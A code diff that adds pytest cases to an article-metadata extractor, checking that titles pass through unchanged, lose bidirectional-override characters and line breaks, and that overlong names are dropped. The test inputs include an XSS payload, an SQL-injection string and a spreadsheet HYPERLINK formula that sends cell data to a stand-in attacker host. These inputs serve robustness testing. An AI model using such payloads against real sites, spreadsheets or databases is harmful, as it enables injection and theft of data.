@@ -143,3 +143,25 @@ def test_hints_stand_where_the_text_says_nothing():
     found = article(PROSE, hints=hints)
     assert (found.url, found.title, found.author, found.publisher) == (hints.url, "Mill", "Ada Moor", "Quay Weekly")
     assert (found.published_on, found.published_from, found.source.licence) == (date(2026, 5, 1), "sitemap", "CC0-1.0")
+
+
+@pytest.mark.parametrize(
+    "title",
+    [
+        "x" * 10_000,
+        "<img src=x onerror=alert(1)>",
+        '=HYPERLINK("http://evil.example/?"&A1,"open")',
+        "'; drop table articles; --",
+    ],
+)
+def test_a_title_is_kept_as_it_is(title):
+    assert article(PROSE, hints=Hints(title=title)).title == title
+
+
+def test_a_title_loses_what_turns_it_round_and_its_line_ends():
+    assert article(PROSE, hints=Hints(title="\u202egnp.exe\u202c and\n\u200bmore")).title == "gnp.exe and more"
+
+
+def test_names_that_are_too_long_to_be_one_are_left_out():
+    found = article(PROSE, hints=Hints(title="Mill", author="a" * 201, publisher="p" * 301, licence="l" * 301))
+    assert (found.title, found.author, found.publisher, found.source.licence) == ("Mill", None, None, None)
